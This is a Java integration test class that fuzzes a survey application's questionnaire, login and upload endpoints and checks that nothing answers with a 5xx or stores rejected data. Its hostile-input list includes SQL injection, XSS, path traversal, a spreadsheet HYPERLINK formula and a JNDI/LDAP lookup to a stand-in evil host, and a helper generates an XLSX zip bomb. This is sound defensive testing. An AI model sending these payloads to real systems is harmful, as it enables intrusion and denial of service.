package org.parindex.survey.it;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.json.JsonObject;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.text.Normalizer;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.TreeMap;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.parindex.survey.it.Api.Answer;

/**
 * Malformed, huge and hostile input on the public endpoints ({@code /q/api/<token>/…}, {@code /link/…}, the login)
 * and the uploads (units, respondents, scores): never a 5xx, and nothing stored from a rejected request (counts
 * through the API before and after).
 */
abstract class InputFuzzChecks {

    static final String SECRETARIAT = TrustChecks.SECRETARIAT;
    static final String NFD = Normalizer.normalize("Nguyễn Thị Hồng Nhung — Sở Tài chính", Normalizer.Form.NFD);
    static final List<String> HOSTILE = List.of("' OR '1'='1", "'; DROP TABLE survey_answer; --",
            "<script>alert(1)</script>", "=HYPERLINK(\"http://evil.example\")", "../../etc/passwd", "%00", "\u0000",
            "\uFEFF", "\uD800", NFD, "${jndi:ldap://evil.example/a}", "a".repeat(5000));


    /** The deployment's base URL, set by the enclosing {@code *IT} class. */
    URL base;

    private Api api;
    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10))
            .followRedirects(HttpClient.Redirect.NEVER).build();

    @BeforeEach
    void connect() {
        api = new Api(base);
    }

    @Test
    void thePublicEndpointsNeverAnswer5xxAndStoreNothingFromRejectedRequests() {
        long campaign = api.newCampaign("Thử dữ liệu xấu", true);
        api.upload("api/campaigns/" + campaign + "/respondents/import", ("full_name,email,group\n"
                + "Vũ Thị Én,en.fuzz@example.invalid,LANH_DAO_MTTQ_TINH\n"
                + "Đỗ Văn Gia,gia.fuzz@example.invalid,LANH_DAO_MTTQ_TINH\n").getBytes(StandardCharsets.UTF_8), Api.CSV);
        assertThat(api.post("api/campaigns/" + campaign + "/status", "{\"status\":\"OPEN\"}").status()).isEqualTo(200);
        api.post(SECRETARIAT + "campaigns/" + campaign + "/invitations", "{}");
        List<String> tokens = tokens(campaign);
        long submitted = submitted(campaign);

        List<String> bodies = new ArrayList<>(List.of("", "{", "}", "[]", "null", "0", "\"x\"", "{\"answers\":null}",
                "{\"answers\":\"x\"}", "{\"answers\":{}}", "{\"answers\":[null]}", "{\"answers\":[1,2,3]}",
                "{\"answers\":[{\"form\":null,\"question\":null,\"unit\":null,\"option\":null}]}",
                "{\"answers\":[{\"form\":1e999999,\"question\":[],\"unit\":{},\"option\":true}]}",
                "{\"answers\":[{\"form\":\"" + NFD + "\",\"question\":\"' OR 1=1 --\",\"unit\":\"<b>\",\"option\":\"\\u0000\"}]}",
                "{\"answers\":[" + "[".repeat(50_000) + "]".repeat(50_000) + "]}",
                "{\"answers\":[{\"form\":\"" + "x".repeat(900_000) + "\"}]}",
                "{\"a\":" + "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_001),
                "\u00ff\u00fe garbage", "{\"answers\":[]}"));
        for (String hostile : HOSTILE) {
            bodies.add("{\"answers\":[{\"form\":\"" + escape(hostile) + "\",\"question\":\"" + escape(hostile)
                    + "\",\"unit\":\"" + escape(hostile) + "\",\"option\":\"" + escape(hostile) + "\"}]}");
        }
        for (String body : bodies) {
            for (String type : List.of("application/json", "text/plain", "application/xml")) {
                expectNo5xx("PUT", "q/api/" + tokens.get(0) + "/draft", type, body);
                expectNo5xx("POST", "q/api/" + tokens.get(0) + "/submission", type, body);
            }
        }
        assertThat(submitted(campaign)).isEqualTo(submitted);

        // a real answer set is taken once; replaying it (same token, same body) is refused
        JsonObject page = api.anonymous().get("q/api/" + tokens.get(0)).json();
        String answers = SecretariatChecks.answers(page, SecretariatChecks.forms(), "LANH_DAO_MTTQ_TINH", 3, new TreeMap<>());
        assertThat(api.anonymous().post("q/api/" + tokens.get(0) + "/submission", answers).status()).isEqualTo(201);
        for (int i = 0; i < 3; i++) {
            Answer replay = api.anonymous().post("q/api/" + tokens.get(0) + "/submission", answers);
            assertThat(replay.status()).as(replay.body()).isBetween(400, 499);
            expectNo5xx("PUT", "q/api/" + tokens.get(0) + "/draft", "application/json", answers);
        }
        assertThat(submitted(campaign)).isEqualTo(submitted + 1);

        // odd tokens and codes (this ends with 429 from the lookup throttle, which is fine: not a 5xx)
        for (String hostile : HOSTILE) {
            String t = Api.q(hostile);
            expectNo5xx("GET", "q/api/" + t, null, null);
            expectNo5xx("POST", "q/api/" + t + "/submission", "application/json", answers);
            expectNo5xx("GET", "link/" + t, null, null);
            expectNo5xx("GET", "q/" + t, null, null);
        }
        for (String raw : List.of("q/api/%2e%2e/submission", "q/api/%C0%AE/draft", "link/..%2F..%2F",
                "q/api/" + "A".repeat(3000), "link/" + "A".repeat(3000))) {
            expectNo5xx("GET", raw, null, null);
        }
        assertThat(submitted(campaign)).isEqualTo(submitted + 1);
        assertThat(api.get("api/campaigns/" + campaign + "/respondents").json().getInt("total")).isEqualTo(2);
    }

    @Test
    void theLoginNeverAnswers5xx() {
        List<String> forms = List.of("", "username=&password=", "username=" + "u".repeat(10_000) + "&password=x",
                "username=" + Api.q(NFD) + "&password=" + Api.q(NFD), "username=%ZZ&password=%",
                "username=' OR '1'='1&password=' OR '1'='1", "\u0000\u0001\u0002");
        for (int i = 0; i < forms.size(); i++) {
            HttpResponse<String> r = send(HttpRequest.newBuilder(api.uri("admin/login"))
                    .header("Content-Type", "application/x-www-form-urlencoded")
                    .POST(HttpRequest.BodyPublishers.ofString(forms.get(i))));
            assertThat(r.statusCode()).as(forms.get(i)).isLessThan(500);
            assertThat(api.get("api/campaigns").status()).isEqualTo(200); // a success clears the address
        }
        for (String header : List.of("Basic", "Basic !!!", "Basic " + b64("nocolon"), "Basic " + b64(":"),
                "Basic " + b64(":" + "p".repeat(20_000)), "Basic " + b64(NFD + ":" + NFD), "Bearer x", "Basic  ",
                "Basic " + b64("' OR 1=1 --:x"))) {
            HttpResponse<String> r = send(HttpRequest.newBuilder(api.uri("api/campaigns"))
                    .header("Authorization", header).GET());
            assertThat(r.statusCode()).as(header).isBetween(400, 499);
            assertThat(api.get("api/campaigns").status()).isEqualTo(200);
        }
    }

    @Test
    void uploadsNeverAnswer5xxAndARejectedFileStoresNothing() throws IOException {
        long draft = api.newCampaign("Thử tệp xấu (nháp)", false);
        long withUnits = api.newCampaign("Thử tệp xấu", true);
        long units = count("api/campaigns/" + draft + "/units");
        long people = count("api/campaigns/" + withUnits + "/respondents");
        int scores = api.get(SECRETARIAT + "campaigns/" + withUnits + "/scores").array().size();

        byte[] good = Api.file("examples/respondents-good.xlsx");
        byte[] random = new byte[50_000];
        new Random(10).nextBytes(random);
        List<byte[]> files = new ArrayList<>(List.of(new byte[0], random, Arrays.copyOf(good, good.length / 2),
                "PK\u0003\u0004garbage".getBytes(StandardCharsets.ISO_8859_1), zipBomb(),
                "code,name,level,parent\n\"unterminated,x,y\n".getBytes(StandardCharsets.UTF_8),
                "full_name,email,group\n".getBytes(StandardCharsets.UTF_8),
                "a;b\tc,d\n\u0000\u0000\n".getBytes(StandardCharsets.UTF_8),
                "code,name,level\nX,Y,Z\n".getBytes(StandardCharsets.UTF_16),
                (",".repeat(20_000) + "\n").getBytes(StandardCharsets.UTF_8)));
        for (String hostile : HOSTILE) {
            String h = csvCell(hostile);
            files.add(("code,name,level,parent\n" + h + "," + h + "," + h + "," + h + "\n").getBytes(StandardCharsets.UTF_8));
            files.add(("full_name,email,group,home_unit\n" + h + "," + h + ",KHONG_CO_NHOM," + h + "\n")
                    .getBytes(StandardCharsets.UTF_8));
            files.add(("unit,item,self_score,appraised_score,evidence\n" + h + "," + h + "," + h + ",-1e999999," + h
                    + "\n").getBytes(StandardCharsets.UTF_8));
        }
        String[] types = {Api.CSV, Api.XLSX, "application/json", "text/plain"};
        for (int f = 0; f < files.size(); f++) {
            byte[] file = files.get(f);
            for (String type : types) {
                for (String path : List.of("api/campaigns/" + draft + "/units/import",
                        "api/campaigns/" + withUnits + "/respondents/import",
                        "api/campaigns/" + withUnits + "/respondents/import?dryRun=true",
                        SECRETARIAT + "campaigns/" + withUnits + "/scores/import")) {
                    Answer a;
                    try {
                        a = api.upload(path, file, type);
                    } catch (RuntimeException e) {
                        throw new AssertionError("file " + f + " to " + path + " as " + type + ": " + e, e);
                    }
                    assertThat(a.status()).as("file " + f + " to " + path + " as " + type + ": " + a.body())
                            .isLessThan(500);
                }
            }
        }
        assertThat(count("api/campaigns/" + draft + "/units")).isEqualTo(units);
        assertThat(count("api/campaigns/" + withUnits + "/respondents")).isEqualTo(people);
        assertThat(api.get(SECRETARIAT + "campaigns/" + withUnits + "/scores").array().size()).isEqualTo(scores);
        // and JSON endpoints of the API with broken bodies
        for (String body : List.of("{", "[]", "{\"fullName\":" + "[".repeat(30_000) + "}", "{\"fullName\":\""
                + escape(NFD) + "\",\"email\":\"' OR 1=1\",\"group\":\"<x>\"}")) {
            Answer a = api.post("api/campaigns/" + withUnits + "/respondents", body);
            assertThat(a.status()).as(a.body()).isBetween(400, 499);
        }
        assertThat(count("api/campaigns/" + withUnits + "/respondents")).isEqualTo(people);
    }

    // --- helpers

    private void expectNo5xx(String method, String path, String type, String body) {
        HttpRequest.Builder r = HttpRequest.newBuilder(api.uri(path));
        if (type != null) {
            r.header("Content-Type", type);
        }
        r.method(method, body == null ? HttpRequest.BodyPublishers.noBody()
                : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
        HttpResponse<String> answer = send(r);
        assertThat(answer.statusCode()).as(method + " " + path + " (" + type + "): "
                + answer.body().substring(0, Math.min(300, answer.body().length()))).isLessThan(500);
    }

    private HttpResponse<String> send(HttpRequest.Builder request) {
        try {
            return http.send(request.timeout(Duration.ofSeconds(60)).build(),
                    HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private List<String> tokens(long campaign) {
        List<String> tokens = new ArrayList<>();
        for (JsonObject r : api.get("api/campaigns/" + campaign + "/respondents?size=5").json().getJsonArray("items")
                .getValuesAs(JsonObject.class)) {
            String link = api.get("api/campaigns/" + campaign + "/invitations/" + r.getJsonNumber("id").longValue()
                    + "/link").json().getString("link");
            tokens.add(link.substring(link.lastIndexOf("/q/") + 3));
        }
        return tokens;
    }

    private long submitted(long campaign) {
        return api.get(SECRETARIAT + "campaigns/" + campaign + "/dashboard").json().getJsonNumber("submitted")
                .longValue();
    }

    private long count(String path) {
        return api.get(path).json().getJsonNumber("total").longValue();
    }

    private static String escape(String s) {
        StringBuilder b = new StringBuilder();
        for (char c : s.toCharArray()) {
            if (c == '"' || c == '\\') {
                b.append('\\').append(c);
            } else if (c < 0x20 || Character.isSurrogate(c)) {
                b.append(String.format("\\u%04x", (int) c));
            } else {
                b.append(c);
            }
        }
        return b.toString();
    }

    private static String csvCell(String s) {
        return "\"" + s.replace("\"", "\"\"") + "\"";
    }

    private static String b64(String s) {
        return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }

    /** An XLSX whose one sheet expands to 64 MB of a single cell. */
    private static byte[] zipBomb() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.setLevel(9);
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                    + "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-"
                    + "officedocument.spreadsheetml.sheet.main+xml\"/></Types>").getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            zip.write("<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>".getBytes(StandardCharsets.UTF_8));
            byte[] chunk = "A".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < 64; i++) {
                zip.write(chunk);
            }
            zip.write("</t></is></c></row></sheetData></worksheet>".getBytes(StandardCharsets.UTF_8));
        }
        return bytes.toByteArray();
    }
}
